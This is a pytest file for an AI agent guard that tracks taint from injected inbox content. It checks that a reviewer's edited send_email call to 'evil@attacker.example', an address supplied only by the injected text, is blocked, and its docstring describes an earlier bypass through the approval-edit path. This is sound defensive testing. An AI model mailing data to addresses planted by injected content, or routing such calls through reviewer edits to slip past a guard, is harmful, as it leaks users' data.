"""A reviewer's edit is re-checked with what the run has read: an edit that sends to an address only injected
content supplied is blocked, as the model's own call with it would be. Before, the re-check ran on an empty
context (no taint), so the edit ran: a reviewer misled by the injected text (or copying from it) smuggled the
payload the policy blocks past the guard."""

from __future__ import annotations

import asyncio

import pytest
from langchain_core.messages import HumanMessage
from langgraph.checkpoint.memory import InMemorySaver
from langgraph.types import Command

from airs_plugins import Action
from contract.harness import ADAPTERS, Executions, ToolFake, assert_paired, build, call, make_shield, new_config, script

EVIL = "evil@attacker.example"  # only the injected inbox text (Executions.inbox) names it


def _session_request(shield):  # type: ignore[no-untyped-def]
    session = shield.session(run_id="r1", thread_id="t1")
    session.check_input("read my inbox and mail the boss a summary")
    session.check_tool_result("read_inbox", Executions().inbox)
    own = session.check_tool_call("send_email", {"to": EVIL, "body": "summary"})
    assert own.action is Action.BLOCK  # the model's own call with the injected address
    asked = session.check_tool_call("send_email", {"to": "boss@corp.example", "body": "summary"})
    assert asked.action is Action.REQUIRE_APPROVAL
    return asked, shield.approval_request(asked, tool_args={"to": "boss@corp.example", "body": "summary"})


def test_the_core_rechecks_an_edit_with_the_runs_taint() -> None:
    shield = make_shield()
    asked, request = _session_request(shield)
    smuggle = {"type": "edit", "args": {"to": EVIL, "body": "summary"}, "reviewer": "rev"}
    fine = {"type": "edit", "args": {"to": "boss@corp.example", "body": "short"}, "reviewer": "rev"}
    for resolve in (shield.resolve_approval,
                    lambda *a, **k: asyncio.run(shield.aresolve_approval(*a, **k))):
        final = resolve(request, smuggle, context=asked.context)
        assert final.action is Action.BLOCK and "edited arguments blocked" in final.reason
        kept = resolve(request, fine, context=asked.context)
        assert kept.action is Action.REDACT and kept.context.tainted  # the run's taint comes back with it


@pytest.mark.parametrize("adapter", ADAPTERS)
def test_an_edit_to_an_injected_address_does_not_run(adapter: str) -> None:
    ex = Executions()
    shield = make_shield()
    model = ToolFake(responses=script([call("read_inbox", {"folder": "in"}, "c1")],
                                      [call("send_email", {"to": "boss@corp.example", "body": "summary"}, "c2")],
                                      "done"))
    graph = build(adapter, shield, model, ex, InMemorySaver())
    config = new_config()
    (pending,) = graph.invoke({"messages": [HumanMessage("read my inbox and mail the boss a summary")]},
                              config)["__interrupt__"]
    assert pending.value["tool_name"] == "send_email"
    out = graph.invoke(Command(resume={pending.id: {"type": "edit", "args": {"to": EVIL, "body": "summary"},
                                                    "reviewer": "rev"}}), config)
    assert ex.of("send_email") == []
    refused = str(assert_paired(out["messages"])["c2"].content)
    assert "not executed" in refused and "edited arguments blocked" in refused
